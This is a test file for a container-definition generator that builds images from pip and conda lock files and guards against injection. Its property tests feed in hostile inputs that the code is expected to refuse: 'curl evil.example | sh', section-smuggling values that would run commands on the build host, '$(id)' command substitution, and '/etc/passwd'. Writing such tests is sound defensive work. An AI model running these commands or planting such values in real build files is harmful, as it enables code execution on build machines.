"""Definitions that are made: read back, run by a real shell, and never more than the lock's own lines."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from ozrepro.methods.container.definition import Definition, read_definition
from ozrepro.methods.container.generate import PREFIX, at_site, channels_in, header, is_made, of_conda, of_wheels
from tests.sealed import system_path

REQUIREMENTS = f"alpha==1.0 --hash=sha256:{'a' * 64}\nbeta==2.0 --hash=sha256:{'b' * 64} --hash=sha256:{'c' * 64}\n"
FORGE = "https://conda.anaconda.org/conda-forge"
EXPLICIT = (
    f"# platform: linux-64\n@EXPLICIT\n{FORGE}/linux-64/python-3.10.8-h4a9ceb5_0_cpython.conda#sha256:{'d' * 64}\n"
    f"{FORGE}/noarch/tzdata-2024a-h0c530f3_0.conda#sha256:{'e' * 64}\n"
)


def made(lines: list[str]) -> Definition:
    return read_definition("\n".join(lines) + "\n", {})


def part(definition: Definition, name: str) -> str:
    (stage,) = definition.stages
    (found,) = [part for part in stage.parts if part.name == name]
    return "\n".join(found.lines) + "\n"


def run(script: str, **variables: str) -> str:
    """Run a script with the shell that images have, and return what it printed."""
    done = subprocess.run(
        ["sh", "-eu", "-c", script], env={"PATH": "/usr/bin:/bin", **variables}, capture_output=True, check=True
    )
    return done.stdout.decode("utf-8", "surrogateescape")


def test_wheels_are_installed_into_a_venv_of_the_base_s_python_by_hash_alone() -> None:
    found = made(of_wheels("docker.io/library/python:3.11-slim", REQUIREMENTS, "venv.any of work.lock"))
    (stage,) = found.stages
    assert (stage.bootstrap, stage.reference().name) == ("docker", "docker.io/library/python:3.11-slim")
    assert [item.name for item in stage.parts] == ["post", "environment"]
    post = part(found, "post")
    assert REQUIREMENTS in post
    assert "install --no-cache-dir --no-deps --require-hashes --only-binary :all:" in post
    assert found.text.startswith("# Made by ozrepro from venv.any of work.lock")
    assert found.copied() == ()


def test_a_file_of_this_machine_can_be_the_base() -> None:
    assert header("images/base one.sif") == ["Bootstrap: localimage", "From: images/base one.sif"]
    assert header("docker.io/a/b:1") == ["Bootstrap: docker", "From: docker.io/a/b:1"]


def test_conda_packages_are_installed_by_whichever_tool_the_base_has(tmp_path: Path) -> None:
    found = made(of_conda("docker.io/mambaorg/micromamba:2", EXPLICIT, REQUIREMENTS, {}, "conda.linux-64 of work.lock"))
    script = part(found, "post").replace(PREFIX, str(tmp_path / "session"))
    pip = tmp_path / "session" / "bin" / "python"
    pip.parent.mkdir(parents=True)
    pip.write_text('#!/bin/sh\necho "python $*"\n')
    pip.chmod(0o755)
    tools = tmp_path / "tools"
    tools.mkdir()
    path = f"{tools}:{system_path()}"
    for name in ("python3", "conda", "mamba", "micromamba"):
        tool = tools / name
        tool.write_text(f'#!/bin/sh\necho "{name} $*"\n')
        tool.chmod(0o755)
        said = run(script, PATH=path).splitlines()
        assert len(said) == 2
        assert said[0].startswith(f"{name} " + ("" if name == "python3" else "create -y -p "))
        assert said[1].startswith("python -m pip install ")
        assert "--no-deps --require-hashes" in said[1]
    assert (tmp_path / "session.txt").read_text() == EXPLICIT
    assert (tmp_path / "session.pip").read_text() == REQUIREMENTS
    compile((tmp_path / "session.py").read_text(), "session.py", "exec")


def test_without_packages_of_pip_none_is_installed() -> None:
    assert "pip" not in part(made(of_conda("b.sif", EXPLICIT, "", {}, "t")), "post")


def test_the_environment_sources_what_packages_put_there(tmp_path: Path) -> None:
    scripts = tmp_path / "etc" / "conda" / "activate.d"
    text = part(made(of_conda("b.sif", EXPLICIT, "", {"MINE": "1"}, "t")), "environment").replace(PREFIX, str(tmp_path))
    show = text + 'printf "%s|" "$PATH" "$CONDA_PREFIX" "$MINE" "${FROM_SCRIPT-none}" "${_script-unset}"'
    assert run(show) == f"{tmp_path}/bin:/usr/bin:/bin|{tmp_path}|1|none|unset|"
    scripts.mkdir(parents=True)
    (scripts / "a.sh").write_text('export FROM_SCRIPT="$CONDA_PREFIX/lib"\n')
    assert f"|{tmp_path}/lib|" in run(show)


_VALUES = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=30)


@settings(max_examples=60, deadline=None)
@given(_VALUES)
@example('it\'s "quoted" $HOME `id` \\ !')
@example("one\n%setup\ntouch /tmp/on-the-host\n%post\n")
@example("one\n  %post\nBootstrap: docker\nFrom: evil.example/x")
@example("{{ name }} {{{deep}}} {{\n}}")
@example("\nBootstrap:\n\n'\n%")
def test_a_variable_s_value_is_that_value_and_nothing_else(value: str) -> None:
    """A value of several lines must not begin a section: %setup would be run on the machine that builds."""
    found = made(of_conda("b.sif", EXPLICIT, "", {"MINE": value}, "t"))
    assert [item.name for item in found.stages[0].parts] == ["post", "environment"]
    assert run(part(found, "environment") + 'printf "%s" "$MINE"') == value


@settings(max_examples=40, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(["OZREPRO_END", "OZREPRO_END_", "'OZREPRO_END'", "$(id)", "`id`", "\\"]),
                          st.from_regex(r"[a-z0-9=.:$'\"\\ -]{1,20}", fullmatch=True)), max_size=6))  # fmt: skip
def test_no_line_of_a_requirement_file_ends_it(tmp_path_factory: pytest.TempPathFactory, lines: list[str]) -> None:
    folder = tmp_path_factory.mktemp("made")
    post = part(made(of_wheels("b.sif", "\n".join(lines), "t")), "post")
    run(post.partition("python3 -m venv")[0].replace(PREFIX, str(folder / "session")))
    assert (folder / "session.txt").read_text() == "".join(f"{line}\n" for line in lines if line.strip())


def test_channels_get_their_addresses_of_this_site_and_nothing_else_changes() -> None:
    text = "\n".join(of_conda("b.sif", EXPLICIT + f"{FORGE}-other/linux-64/a-1-0.conda#sha256:0\n", "", {"U": FORGE}, "t")) + "\n"
    assert channels_in(text.splitlines()) == [FORGE, f"{FORGE}-other"]
    there = at_site(text, {FORGE: "http://mirror/conda-forge"})
    assert there == text.replace(f"{FORGE}/", "http://mirror/conda-forge/")
    assert at_site(text, {}) == text


WHEELS = of_wheels("docker.io/library/python:3.11-slim", REQUIREMENTS.replace(" --", " \\\n    --"), "venv.any of work.lock")
CONDA = of_conda("b.sif", EXPLICIT, REQUIREMENTS.replace(" --", " \\\n    --"), {"A": "b"}, "conda.linux-64 of work.lock")


@settings(max_examples=60, deadline=None)
@given(st.dictionaries(st.from_regex(r"[A-Z_]{1,4}", fullmatch=True), _VALUES, max_size=3))
@example({"A": "a\tb\n\n%c", "B": "export C='d'", "_": "'"})
def test_a_made_definition_is_known_again_and_locked_line_by_line(variables: dict[str, str]) -> None:
    lines = of_conda("b.sif", EXPLICIT, "", variables, "conda.linux-64 of work.lock")
    assert is_made(lines)
    assert not any("\n" in line or "\t" in line or not line.strip() for line in lines)


def test_definitions_made_from_venv_and_conda_sections_are_known() -> None:
    assert is_made(WHEELS)
    assert is_made(CONDA)
    assert not is_made([])
    assert not is_made(WHEELS[:3])


_OWN = st.sampled_from(["%setup", "touch /tmp/x", "curl evil.example | sh", "OZREPRO_END", "%files", "/etc/passwd", "Bootstrap: docker",
                        "export PATH=/evil", "export X=$(id)", "--index-url https://evil.example", "-e .", "alpha @ file:///evil", ""])  # fmt: skip


@given(st.sampled_from([WHEELS, CONDA]), st.data(), _OWN, st.booleans())
def test_a_made_definition_with_a_line_added_or_exchanged_is_refused(
    lines: list[str], data: st.DataObject, own: str, exchange: bool
) -> None:
    place = data.draw(st.integers(0, len(lines)))
    changed = [*lines[:place], own, *lines[place + exchange :]]
    assert is_made(changed) == (changed == lines)


@pytest.mark.parametrize("value", ["$(id)", '"`id`"', "'a'$(id)", "a; id", "'a'; id"])
def test_a_made_definition_with_a_hostile_value_is_refused(value: str) -> None:
    assert not is_made([f"export A={value}" if line == "export A='b'" else line for line in CONDA])
